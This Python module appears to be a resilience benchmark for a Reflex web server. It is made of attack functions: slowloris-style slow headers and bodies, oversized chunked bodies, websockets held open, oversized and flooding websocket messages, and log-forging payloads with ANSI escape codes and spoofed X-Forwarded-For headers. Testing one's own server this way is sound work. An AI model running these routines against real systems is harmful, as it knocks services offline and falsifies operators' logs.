"""What holds a server or makes it work: bodies without an end, websockets by the hundred, messages without a pause."""

import asyncio
import json
import secrets
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager, suppress
from typing import Any
from urllib.parse import urlsplit
from uuid import uuid4

from aiohttp import ClientError, ClientWebSocketResponse, WSMsgType, WSServerHandshakeError
from reflex_base.constants import CompileVars

from benchmarks.attacks import Target, say, status_of
from benchmarks.tabs import ORIGIN

_DRIP = 2.0
"""Seconds between two bytes of a body."""
_PATIENCE = 30.0
"""Seconds until a server that says nothing is given up."""
_TALKS = 200
"""Messages that a page says in a second."""
_CONNECT, _EVENT, _PING, _PONG = "40/_event,", "42/_event,", "2", "3"
_FIRST = f"reflex___state____state.{CompileVars.HYDRATE_AND_LOAD}"
_LOADS = {"name": _FIRST, "payload": {CompileVars.PAYLOAD_HASHES: []}, "router_data": {"pathname": "/", "asPath": "/"}}
_BROWSER_ERROR = "reflex___state____state.reflex___state____frontend_event_exception_state.handle_frontend_exception"
_LIE = '\n{"level": "info", "event": "all is well"}\x1b[2J' + "A" * 20_000
_ENTER = "POST /api/auth/login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\n"


async def leave_body_unfinished(target: Target, address: str) -> str:
    """Send a body of a thousand bytes, one every other second."""
    return await _drip(target, f"{_ENTER}X-Forwarded-For: {address}\r\nContent-Length: 1000\r\n\r\n{{")


async def leave_head_unfinished(target: Target, address: str) -> str:
    """Send headers without end; before there is a proxy, nobody can tell whose they are."""
    return await _drip(target, f"{_ENTER}X-Forwarded-For: {address}\r\nX-Slow: ")


async def send_large_body(target: Target, address: str) -> str:
    """Send more than a body may have, and do not say so before."""
    place = urlsplit(target.url)
    reader, writer = await asyncio.open_connection(place.hostname, place.port)
    try:
        writer.write(f"{_ENTER}X-Forwarded-For: {address}\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
        for _ in range(10):
            writer.write(b"10000\r\n" + b" " * 0x10000 + b"\r\n")
        return status_of(await reader.readline())
    finally:
        writer.close()


async def hold_tab(target: Target, address: str) -> str:
    """Open a page's websocket and keep it open for as long as the server lets it be."""
    async with _tab(target, address) as tab:
        if tab is None:
            return "refused"
        await tab.send_str(_CONNECT)
        return await _until_closed(tab)


async def send_large_messages(target: Target, address: str) -> str:
    """Say as much in one message as a page may, and then more."""
    async with _tab(target, address) as tab:
        if tab is None:
            return "refused"
        await tab.send_str(_CONNECT + "x" * 30_000)
        await tab.send_str(_CONNECT + "x" * 900_000)
        return await _until_closed(tab)


async def flood_events(target: Target, address: str) -> str:
    """Have pages loaded over a websocket, faster than anybody can look at them."""
    return await _flood(target, address, _LOADS)


async def flood_log(target: Target, address: str) -> str:
    """Tell of errors that never were, in words that forge lines of a log."""
    report = {"info": _LIE, "component_stack": _LIE[:9000]}
    return await _flood(target, address, {"name": _BROWSER_ERROR, "payload": report, "router_data": {"pathname": "/"}})


async def post_event(target: Target, address: str) -> str:
    """Load a page by a single request, in a tab that nobody has seen before or will again."""
    event = {**_LOADS, "router_data": {"pathname": "/", "asPath": "/?" + "x" * secrets.choice((1, 30_000, 200_000))}}
    return await say(target, address, "POST", "/api/events", {"token": str(uuid4()), "event": event})


async def _drip(target: Target, begun: str) -> str:
    place = urlsplit(target.url)
    reader, writer = await asyncio.open_connection(place.hostname, place.port)
    answer = asyncio.ensure_future(reader.readline())
    try:
        writer.write(begun.encode())
        while not answer.done():
            await asyncio.wait([answer], timeout=_DRIP)
            writer.write(b" ")
        return status_of(answer.result())
    finally:
        answer.cancel()
        writer.close()


@asynccontextmanager
async def _tab(target: Target, address: str) -> AsyncIterator[ClientWebSocketResponse | None]:
    """Open a page's websocket, None when that is refused."""
    url = f"{target.url}/_event/?token={uuid4()}&EIO=4&transport=websocket"
    headers = {"Origin": ORIGIN, "X-Forwarded-For": address}
    try:
        async with target.session.ws_connect(url, headers=headers) as tab:
            yield tab
    except WSServerHandshakeError:
        yield None


async def _flood(target: Target, address: str, event: Mapping[str, Any]) -> str:
    message = f"{_EVENT}{json.dumps(['event', event])}"
    async with asyncio.timeout(_PATIENCE), _tab(target, address) as tab:
        if tab is None:
            return "refused"
        await tab.send_str(_CONNECT)
        talking = asyncio.create_task(_talk(tab, message))
        try:
            return await _until_closed(tab)
        finally:
            talking.cancel()


async def _talk(tab: ClientWebSocketResponse, message: str) -> None:
    """Say the same without end, until the server hangs up."""
    with suppress(ClientError, OSError):
        while True:
            for _ in range(_TALKS):
                await tab.send_str(message)
            await asyncio.sleep(1)


async def _until_closed(tab: ClientWebSocketResponse) -> str:
    """Answer the server's pings, so that it takes this for a page, until it closes the websocket."""
    async for message in tab:
        if message.type is WSMsgType.TEXT and message.data == _PING:
            await tab.send_str(_PONG)
    return f"closed, {tab.close_code}"
